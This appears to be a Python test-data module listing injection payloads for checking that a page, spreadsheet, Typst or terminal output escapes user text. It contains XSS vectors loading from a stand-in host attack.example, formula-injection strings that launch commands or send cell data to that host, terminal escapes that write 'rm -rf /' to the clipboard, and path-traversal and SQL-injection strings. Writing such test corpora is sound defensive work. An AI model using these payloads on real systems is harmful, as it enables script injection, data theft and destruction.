"""Texts that would do something wherever their context is not kept: what a page, a paper, a spreadsheet or a terminal is given as data."""

# Marks the page in which it runs.
RUN = "document.documentElement.dataset.ran=1"
# Nobody's host: a browser that asks for it asks its proxy.
AWAY = "http://attack.example/"

ELEMENTS = [
    f"<script>{RUN}</script>", f"<SCRIPT\n>{RUN}</SCRIPT\t>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script/x>{RUN}</script>", f"<script src={AWAY}a.js></script>", f"<script src=//attack.example/a.js></script>",
    f'<script type="module">{RUN}</script>', f"<script>{RUN}//", f"<<script>{RUN}//<</script>", f"<img src=x onerror={RUN}>", f"<img src={AWAY}a.png>", f'<img src="x" srcset="{AWAY}b.png 1x">', f"<img/src/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR=\"{RUN}\">", f"<img src=x:x onerror\n=\n{RUN}>", f"<img \x0csrc=x\x0conerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>", f"<svg><script href={AWAY}s.js /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onload to={RUN} onbegin={RUN}>", f"<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x>",
    f"<svg><image href={AWAY}i.png width=9 height=9></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><style>@import url({AWAY}s.css);</style></svg>", f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<svg><filter><feImage href={AWAY}f.png /></filter></svg>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>", f'<math href="javascript:{RUN}">x</math>', f"<math><mi//xlink:href=\"data:x,{RUN}\">x",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>", f"<iframe src={AWAY}f></iframe>", f"<iframe src=javascript:{RUN}></iframe>", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={AWAY}o></object>", f"<embed src={AWAY}e>", f"<video src={AWAY}v onerror={RUN}></video>", f"<video poster={AWAY}p.png></video>", f"<audio src=x onerror={RUN}></audio>", f"<source srcset={AWAY}s>", f"<body onload={RUN}>",
    f"<body background={AWAY}b.png>", f"<table background={AWAY}t.png><tr><td>", f"<html onmouseover={RUN}>", f"<frameset onload={RUN}>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>", f"<form action={AWAY}f><button>go</button></form>", f"<isindex action=javascript:{RUN}>", f"<button formaction=javascript:{RUN}>x", f"<keygen autofocus onfocus={RUN}>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}r">', f"<meta http-equiv=refresh content='0;javascript:{RUN}'>", f"<base href={AWAY}>", f"<link rel=stylesheet href={AWAY}l.css>", f"<link rel=prefetch href={AWAY}l>",
    f"<link rel=dns-prefetch href=//attack.example>", f"<style>@import '{AWAY}i.css';</style>", f"<style>*{{background:url({AWAY}s.png)}}</style>", f"<div style=\"background:url({AWAY}d.png)\">", f"<p style='width:expression({RUN})'>",
    f"<x style=\"behavior:url({AWAY}b)\">", f"<a href=x style=animation-name:a onanimationstart={RUN}>", f"<dialog open oncancel={RUN}>", f"<portal src={AWAY}p>", f"<a href=# ping={AWAY}p>x</a>", f"<area href=javascript:{RUN}>",
]
BREAKOUTS = [
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f"\" onmouseover=\"{RUN}", f"' onmouseover='{RUN}", f"` onmouseover=`{RUN}", f"\" autofocus onfocus={RUN} x=\"", f"x onload={RUN} y=", f"--><script>{RUN}</script><!--", f"--!><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->", f"<!-- --!><img src=x onerror={RUN}> -->", f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"</script><script>{RUN}</script>", f"</SCRIPT ><script>{RUN}</script>", "<!--<script>",
    f"</style><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"</svg><script>{RUN}</script>", f"</math><img src=x onerror={RUN}>",
    f"</xmp><img src=x onerror={RUN}>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<template><p title=\"</template><img src=x onerror={RUN}>\">", f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>", f"<table><td><a title='</td><img src=x onerror={RUN}>'>",
    f"<?xml-stylesheet href=\"javascript:{RUN}\"?>", f"<!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;", f"\\\"><script>{RUN}</script>", f"\\'-{RUN}-\\'", f"\";{RUN};//", f"';{RUN};//", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\u2028{RUN}\u2029", f"*/{RUN}/*", "}</style>{", f'\\22;}}*{{background:url({AWAY}c.png)}}', f"\\a @import '{AWAY}c.css';", f"url({AWAY}u.png)", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;", f"&quot; onload={RUN} &quot;",
    f"\ufeff<script>{RUN}</script>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"<s\u0130cript>{RUN}</s\u0130cript>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"java&Tab;script:{RUN}", f"javascript://x%0a{RUN}", f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}", f"vbscript:MsgBox(1)", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", "blob:null/1", "file:///etc/passwd", f"jar:{AWAY}a!/",
    f"//attack.example/p", f"\\\\attack.example\\p", f"/\\attack.example/p", f"https:attack.example", f"http://attack.example\" onclick=\"{RUN}", f"http://user:password@attack.example/", "ms-word:ofe|u|http://attack.example/x", "filesystem:http://attack.example/x", "about:blank", "chrome://settings",
]
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", f'=HYPERLINK("{AWAY}?"&A1,"x")', f"=IMPORTXML(\"{AWAY}\",\"//a\")", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "%0A=1+1", "=1\";=1", "-2+3", "+", "-", "=\u202e1"]
TYPST = [
    "#panic(1)", "#eval(\"1\")", "#read(\"/etc/passwd\")", "#import \"@preview/cetz:0.2.2\"", f"#link(\"javascript:x\")[x]", "$ x^2 $", "$#panic(1)$", "*bold* _it_ `raw`", "```typ #panic(1)```", "= Heading", "- list", "+ list", "/ term: x", "<label> @label", "]]#panic(1)[[", "\"); #panic(1); (\"",
    "\\u{48} \\#", "// remark", "/* remark */", "*/ #panic(1)", "~---...", "#{", "#[", "#", "\\", "\\\\", "1. x", "http://attack.example/typst", "-?", "\"'\"'",
]
TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b]8;;http://attack.example/\x07link\x1b]8;;\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1bP+q544e\x1b\\", "\x9b2J", "\x9d0;x\x9c", "\x07\x08\x7f", "a\rb", "\x00nul\x00", "::error file=x::owned", "%0A::warning::x", "##[error]owned",
    "\u202eevil\u202c", "\u2066left\u2069", "\u200bzero\u200d", "\u061c\u200e\u200f", "\ufeffmark", "\u0085next", "\ufffe\uffff", "\U000e0001\U000e0041tags", "Z\u0351\u036b\u0343" * 20, "\ue000private",
]
OTHERS = ["x" * 3000, "wide " * 400, "<" * 500, "&" * 500, "'\"`" * 100, "\u4e2d" * 400, "{value} tbl-x", "{{< include a.md >}}", "{name}", "`{python} 1`", "|a|b|", "a;b,c", "../../../etc/passwd", "CON", "%s%n", "'; DROP TABLE d; --", "NULL", "NaN", "\u0130I\u0131", "\U0001f469\u200d\U0001f4bb"]

PAYLOADS = ELEMENTS + BREAKOUTS + ADDRESSES + FORMULAS + TYPST + TERMINAL + OTHERS
# Of one line and printable: what YAML, Markdown and file names can hold.
LINES = [text for text in PAYLOADS if text.isprintable() and text.strip() == text and len(text) < 500]
